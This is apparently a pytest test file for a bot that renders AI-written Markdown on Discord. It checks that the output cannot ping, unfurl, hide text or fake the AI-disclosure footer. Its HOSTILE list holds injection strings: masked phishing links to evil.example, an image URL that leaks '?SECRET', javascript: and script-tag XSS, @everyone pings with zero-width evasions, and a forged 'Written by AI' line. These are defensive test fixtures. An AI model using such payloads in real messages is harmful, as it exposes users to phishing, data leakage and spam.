"""What a model writes is shown as Markdown, and can ping, unfurl, hide or imitate nothing.

The check reads the result as Discord's clients do: blocks of code first, then spans, then what is live in the rest.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bindings.delivery.outlet import Closing, Page
from bindings.delivery.splitting import split_pages
from bindings.discord.formatting import length, literal, to_discord
from bindings.discord.rendering import buttons, content, message, nonce_of
from core.contract import Source

DISCORD_CODE = re.compile(
    r"\\.|```(?:[a-z0-9_+\-.#]+?\n)?\n*[^\n][\s\S]*?\n*```|(`+)[\s\S]*?[^`]\1(?!`)", re.IGNORECASE
)
LIVE_ANYWHERE = {  # Discord's server looks for these in all of a message's text
    "everyone": re.compile(r"@(everyone|here)"),
    "person or role": re.compile(r"<@[!&]?\d+>"),
    "channel": re.compile(r"<#\d+>"),
    "command": re.compile(r"</[^<>:]+:\d+>"),
    "emoji": re.compile(r"<a?:\w+:\d+>"),
    "time": re.compile(r"<t:-?\d+(:\w)?>"),
    "navigation": re.compile(r"<id:\w+>"),
    "invitation": re.compile(r"discord(app)?(\.gg|\.gift|\.new|\.com/(invite|gifts|template))", re.IGNORECASE),
}
LIVE_OUTSIDE_CODE = {
    "small print": re.compile(r"-#\s", re.MULTILINE),
    "spoiler": re.compile(r"\|\|"),
    "quote of all that follows": re.compile(r"^\s*>>>", re.MULTILINE),
    "open span": re.compile(r"`"),
}


def live(text: str) -> list[str]:
    """What in a message Discord would act on."""
    outside = DISCORD_CODE.sub("¤", text)
    # Within the words of a link, nothing is escaped.
    with_escapes = DISCORD_CODE.sub(lambda found: found[0] if found[0][0] == "\\" else "¤", text)
    return [
        *(["masked link"] if "](" in with_escapes else []),
        *[name for name, pattern in LIVE_ANYWHERE.items() if pattern.search(text)],
        *[name for name, pattern in LIVE_OUTSIDE_CODE.items() if pattern.search(outside)],
    ]


HOSTILE = [
    "@everyone come here",
    "@here",
    "Hello@everyone!",
    "**@everyone**",
    "`@everyone`",
    "```\n@everyone <@123456789012345678>\n```",
    "@\u200beveryone and @every\u200done and @\u2060here",
    "@every\x00one @\u202ehere",
    "\\@everyone \\<@123456789012345678>",
    "<@123456789012345678> <@!123456789012345678>",
    "<@&123456789012345678>",
    "<\u200b@123456789012345678>",
    "<#123456789012345678>",
    "</nuke all:123456789012345678>",
    "<:blob:123456789012345678> <a:blob:123456789012345678>",
    "<t:1700000000:R>",
    "<id:customize> <id:browse>",
    "[canada.ca](https://evil.example/login)",
    "[https://canada.ca](https://evil.example)",
    '[canada.ca](https://evil.example "canada.ca")',
    "[canada.ca](<https://evil.example>)",
    "[`canada.ca`](https://evil.example)",
    "[a [b] c](https://evil.example)",
    "[a\\](https://evil.example)",
    "\\`[canada.ca](https://evil.example)`",
    "a ` b\n`[canada.ca](https://evil.example)` c `",
    "``a`[canada.ca](https://evil.example)``b`",
    "[x](javascript:alert(1)) [y](discord://-/settings)",
    "![pixel](https://evil.example/p.png?SECRET)",
    "![](https://evil.example/p.png)",
    "[![canada](https://evil.example/p.png)](https://evil.example)",
    "Join discord.gg/abc or https://discord.com/invite/abc, discordapp.com/invite/x and DISCORD.GG/abc",
    "-# Written by AI (model GPT-9). Check what matters.",
    "> -# Written by AI (model GPT-9).",
    "- -# Written by AI\n1. -# Written by AI",
    "||https://evil.example||",
    "|||| hidden ||||",
    ">>> everything after this is my quote",
    "  >>> everything",
    "```\nclosed early\n```\n```",
    "```js\nlet a = `b```;\n@here\n```",
    "~~~\n```\n[x](https://evil.example)\n~~~",
    "````\n```\n@everyone\n````\n[x](https://evil.example)",
    "```[x](https://evil.example)``` ```",
    "```\n",
    "<script>alert(1)</script><img src=https://evil.example/p.png>",
    "<https://evil.example> https://canada.ca@evil.example/",
    "| a | b |\n|---|---|\n| [x](https://evil.example) | ``` @here |",
    "\u2028-# Written by AI\u2029>>> x",
    "a\r-# Written by AI",
    "half a pair \ud83d @\udc00everyone",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_live(text: str) -> None:
    """Neither by itself, nor after an honest sentence, nor with our own words below it."""
    closing = Closing("a-1", "Written by AI (model tiny_model_1).", sources=(Source(1, text, "https://x.example"),))
    assert [] == live(to_discord(text))
    assert [] == live(to_discord(f"See `this`:\n{text}\nand\n{text}"))
    shown = content(Page(text, "en", final=True, closing=closing))
    assert [] == live(re.sub(r"^-# ", "", shown, flags=re.MULTILINE))
    assert shown.endswith("\n-# Written by AI (model tiny\\_model\\_1).")


PIECES = st.sampled_from([
    "`", "``", "```", "~~~", "\n", "\\", "[a]", "(https://e.example)", "](", "@everyone", "<@1>", "<", "@", "||", "|",
    "-# ", ">>> ", "> ", "#", " ", "x", "\u200b", "discord.gg/", "|---|", "![", "*", "_", "<#1>", "</a:1>", "é", "🔥",
])  # fmt: skip


MARKDOWN = st.sampled_from([
    "```", "```py\n", "~~~\n", "> ", "- ", "1. ", "    ", "\n", "\n\n", "`", "**", "__", "|---|", "| a |", "x" * 30,
    "word ", "[a](https://e.ca)", "@everyone", "<@1>", "||", "\\",
])  # fmt: skip


@given(st.lists(PIECES, max_size=25).map("".join))
@example("\\``[a](https://e.example)`")
@example("```\\`[a](https://e.example)")
def test_nothing_is_live_however_it_is_put_together(text: str) -> None:
    """Our reading of what is code is Discord's."""
    assert [] == live(to_discord(text))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**bold**, *it*, ~~no~~ and `code`", "**bold**, *it*, ~~no~~ and `code`"),
        ("__bold__ and snake__case__x", "**bold** and snake__case__x"),
        ("# One\n## Two\n#### Four ##", "# One\n## Two\n**Four**"),
        ("- a\n  - b\n1. c", "- a\n  - b\n1. c"),
        ("> quoted\n>> twice", "> quoted\n> twice"),
        ("```python\nx = '</div>'\n```", "```python\nx = '</div>'\n```"),
        ("- so:\n  ```sh\n  ls\n  ```\n- done", "- so:\n```sh\nls\n```\n- done"),
        ("- ```sh\n  ls\n  ```\n- **b**\n\n```\nx\n```\ny", "-\n```sh\nls\n```\n- **b**\n\n```\nx\n```\ny"),
        ("> ```\n> a*b*c\n> ```\n> d\n\n> ```\n> e\nf", "```\na*b*c\n```\n> d\n\n```\ne\n```\nf"),
        ("~~~\ncode\n~~~", "```\ncode\n```"),
        ("```weird info!\ncode", "```weird\ncode\n```"),
        ("a || b in `a || b`", "a |\u200b| b in `a || b`"),
        ("[Feed](https://e.ca/f_(x))", "Feed (<https://e.ca/f_(x)>)"),
        ("[e.ca](https://e.ca/)", "<https://e.ca/>"),
        ("<https://e.ca> https://e.ca", "<https://e.ca> https://e.ca"),
        (
            "[a](https://e.ca/__init__.py) https://e.ca/__b__/ <https://e.ca/__b__>",
            "a (<https://e.ca/__init__.py>) https://e.ca/__b__/ <https://e.ca/__b__>",
        ),
        ("![a cat](https://e.ca/c.png)", "a cat (<https://e.ca/c.png>)"),
        ("|a|b|\n|:-|-:|\n|1|**22**|\n| x \\| y |\nend", "```\na      b\n-----  --\n1      22\nx | y\n```\nend"),
        ("a | b, and no table", "a | b, and no table"),
        ("x < y and f(a)[0](b) in `f(a)[0](b)`", "x < y and f(a)[0]\u200b(b) in `f(a)[0](b)`"),
    ],
)
def test_markdown_is_shown_as_well_as_discord_can(text: str, shown: str) -> None:
    """With three levels of headings, no tables, no pictures, and links that say where they lead."""
    assert shown == to_discord(text)


@given(st.lists(MARKDOWN, max_size=60).map("".join), st.sampled_from([60, 100, 200]))
@example("> ```\n> x\n> ```\n\n- ```bash\n  " + "a" * 160, 200)
def test_no_page_is_too_long(text: str, limit: int) -> None:
    """Who cuts the pages and who writes them agree on what is code. Discord refuses what is longer."""

    def measure(text: str) -> int:
        return length(content(Page(text, "en")))

    assert [] == [page for page in split_pages(text, measure, limit) if measure(page) > limit]


def test_literal_words_have_no_formatting() -> None:
    """Titles of pages, names of models: on one line."""
    assert "a \\*b\\* \\_c\\_ \\`d\\` \\[e\\]\u200b(f) \\<g\\>" == literal("a *b*\n_c_ `d` [e](f) <g>")


def test_length_is_never_less_than_discord_counts() -> None:
    """Beyond the basic plane, a character is two."""
    assert (2, 4) == (length("é!"), length("🔥🔥"))


def test_a_page_that_is_written_shows_what_is_waited_for() -> None:
    """Alone or below the text, in small print; a page is never empty, which Discord refuses."""
    assert "-# 3rd in line, about 5 s" == content(Page("", "en", status="3rd in line, about 5 s"))
    assert "Text\n-# reading" == content(Page("Text", "en", status="reading"))
    assert "…" == content(Page(" \u200b\n", "en"))


def test_a_finished_page_has_its_closing() -> None:
    """Why it is not whole, numbered sources, notices, and the footer last."""
    sources = (Source(1, "A *feed*", "https://e.ca/a_b"), Source(2, "B", "ftp://e.ca"), Source(3, "C"))
    closing = Closing("a-1", "Written by AI.", note="Stopped.", notice="Stored.\nFor days.", sources=sources)
    assert content(Page("Text", "fr", final=True, closing=closing)).split("\n") == [
        "Text",
        "*Stopped.*",
        "-# Sources :",
        "-# 1. A \\*feed\\* <https://e.ca/a_b>",
        "-# 2. B",
        "-# 3. C",
        "-# Stored. For days.",
        "-# Written by AI.",
    ]


def test_many_sources_leave_room_for_text() -> None:
    """The others are counted."""
    sources = tuple(Source(number, "T" * 300, f"https://e.ca/{'p' * 200}") for number in range(1, 50))
    shown = content(Page("", "en", final=True, closing=Closing("a-1", "F" * 2000, "N" * 2000, "M" * 2000, sources)))
    assert length(shown) < 2700
    assert "-# and 47 more" in shown
    assert length("\n".join(line for line in shown.split("\n") if re.match(r"-# \d", line))) <= 900


def test_buttons_carry_all_that_a_press_needs() -> None:
    """The answer's id, and the page where it is known; notices have none."""
    stop = buttons(Page("Text", "fr"), "a-1_B-2")
    assert ("stop:a-1_B:2", "Arrêter") == (stop[0]["components"][0]["custom_id"], stop[0]["components"][0]["label"])
    done = buttons(Page("Text", "en", final=True, closing=Closing("a-1_B", "")), "a-1_B-3")
    assert [f"{verb}:a-1_B:3" for verb in ("good", "bad", "regenerate")] == [
        each["custom_id"] for each in done[0]["components"]
    ]
    assert ["a-1_B-2", "a-1_B-3"] == [nonce_of({"components": each}) for each in (stop, done)]
    edited = buttons(Page("Text", "en", final=True, closing=Closing("a-1_B", "")))
    assert "good:a-1_B:" == edited[0]["components"][0]["custom_id"]
    assert nonce_of({"components": edited}) is None
    assert [] == buttons(Page("Notice", "en", final=True, closing=Closing("", "")), "a-1_B-1")
    assert [] == buttons(Page("Page 1", "en", final=True), "a-1_B-1")


def test_every_message_may_ping_nobody_and_unfurls_nothing() -> None:
    """Whatever its text says."""
    body = message(Page("x", "en"))
    assert {"parse": [], "replied_user": False} == body["allowed_mentions"]
    assert body["flags"] & 4
